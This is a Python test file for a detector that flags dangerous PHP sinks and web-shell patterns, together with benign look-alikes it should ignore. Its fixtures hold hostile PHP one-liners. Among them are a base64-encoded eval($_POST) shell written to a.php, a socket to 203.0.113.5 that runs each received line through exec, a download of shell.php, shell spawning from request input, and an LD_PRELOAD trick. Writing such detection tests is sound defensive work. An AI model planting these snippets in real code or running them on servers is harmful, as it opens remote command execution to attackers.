"""Where something is executed, loaded or written."""

import pytest

from detect.content.php_seen import seen, worst
from hemostat.model.level import Level


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("preg_replace('/x/e', $_GET[1], 'x');", "code"),
        ("create_function('', $_GET[1]);", "code"),
        ("popen($_GET[1], 'r');", "command"),
        ("`$_GET[1]`;", "command"),
        ("mail('a', 'b', 'c', '', $_GET[1]);", "command"),
        ("$f = $_GET[1]; $f();", "callable"),
        ("include $_GET[1];", "include"),
        ("fwrite(fopen($_GET[1], 'w'), $_GET[2]);", "write"),
        ("move_uploaded_file($_FILES['a']['tmp_name'], $_GET[1]);", "upload"),
        ("putenv('LD_PRELOAD=/tmp/x.so');", "preload"),
        ("$f = 'sys' . 'tem'; $f('id');", "spelled"),
        (
            "file_put_contents('a.php', base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMV0pOw=='));",
            "dropped",
        ),
    ],
)
def test_it_is_noted_as(code: str, kind: str) -> None:
    assert kind in {each.kind for each in seen(code)}


def test_replacing_text_is_nothing() -> None:
    assert seen("preg_replace('/a/i', $_GET[1], $x); preg_replace('/e$/', '', $_GET[1]);") == []


@pytest.mark.parametrize(
    "code",
    [
        "pcntl_exec('/bin/sh', ['-c', $_GET['c']]);",
        "copy('http://203.0.113.5/s.txt', 'shell.php');",
        "$f = fopen('x.php', 'w'); curl_setopt($c, CURLOPT_FILE, $f); curl_exec($c);",
        "$s = stream_socket_client('tcp://203.0.113.5:443'); while ($l = fgets($s)) exec($l);",
        "eval(getenv('HTTP_X_CMD'));",
        "$a = '_POST'; $b = $$a; eval($b['x']);",
        "include 'zip://up.jpg#a';",
        "set_error_handler(function ($n, $m) { system($m); }); trigger_error($_GET['c']);",
    ],
)
def test_rarer_ways_in_are_seen(code: str) -> None:
    assert worst(b"<?php " + code.encode()) >= Level.MEDIUM


@pytest.mark.parametrize(
    "code",
    [
        "include 'phar://app.phar/index.php';",
        "copy('https://example.org/logo.png', 'img/logo.png');",
        "$s = stream_socket_client('tcp://127.0.0.1:11211'); echo fgets($s);",
    ],
)
def test_their_ordinary_neighbours_are_not(code: str) -> None:
    assert worst(b"<?php " + code.encode()) <= Level.LOW
